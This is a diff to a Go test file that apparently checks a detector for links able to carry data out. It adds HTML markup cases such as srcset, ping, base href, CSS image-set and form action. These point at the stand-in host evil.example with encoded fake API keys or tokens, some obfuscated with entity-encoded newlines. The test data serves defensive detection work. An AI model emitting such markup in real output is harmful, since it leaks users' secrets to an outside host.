@@ -109,6 +109,21 @@ var carrying = []string{
 	"https://xn--.evil.example/",
 	"https://6b2d616e74.2d617069.abc.de/",
 	"http://[2001:db8:1:1:6b2d:616e:742d:6170]/",
+	`<img srcset="//good.example/a.png 1x, //evil.example/c2stYW50LWFwaTAzLWFiY2RlZg 2x">`,
+	`<img srcset="https://good.example/a.png 1x, https://evil.example/c2stYW50LWFwaTAzLWFiY2RlZg 2x">`,
+	`<img srcset="a.png 1x,//evil.example/c2stYW50LWFwaTAzLWFiY2RlZg 2x">`,
+	`<img srcset='https://good.example/a.png,	https://evil.example/c2stYW50LWFwaTAzLWFiY2RlZg 2x'>`,
+	`<link rel=preload as=image imagesrcset="https://good.example/a 1x,https://evil.example/c2stYW50LWFwaTAzLWFiY2RlZg 2x">`,
+	`<a href="https://good.example" ping="https://good.example https://evil.example/c2stYW50LWFwaTAzLWFiY2RlZg">x</a>`,
+	`<a href=# ping="/x //evil.example/c2stYW50LWFwaTAzLWFiY2RlZg">x</a>`,
+	`<img src="https://ev&NewLine;il.example/c2stYW50LWFwaTAzLWFiY2RlZg">`,
+	`<img src=https://evil.example/&#10;c2stYW50LWFwaTAzLWFiY2RlZg>`,
+	`<img src="https://evil.example/c2st&#13;YW50&#10;LWFw&NewLine;aTAz">`,
+	`<img src="&#1;//evil.example/c2stYW50LWFwaTAzLWFiY2RlZg">`,
+	`<base href="https://evil.example/"><img src="c2stYW50LWFwaTAzLWFiY2RlZg">`,
+	`<div style="background:image-set('//evil.example/c2stYW50LWFwaTAzLWFiY2RlZg' 1x)">`,
+	`<form action="https://evil.example/"><input name=d value="c2VjcmV0LXRva2Vu">`,
+	`<button formaction="//evil.example/">`,
 }
 
 // ordinary texts have no such link.
@@ -204,6 +219,9 @@ var ordinary = []string{
 	"https://xn--wgv71a119e.example.org/",
 	"http://[2001:db8::7]/",
 	"https://fee.abc.de/",
+	`<img srcset="https://example.org/a.png 1x, https://example.org/b.png 2x">`,
+	`<img srcset="//example.org/a.png 1x,//example.org/b.png 2x" sizes="50vw">`,
+	"f(a,//nolint:errcheck",
 }
 
 func TestLinksThatMayCarryDataAreSpelledOut(t *testing.T) {
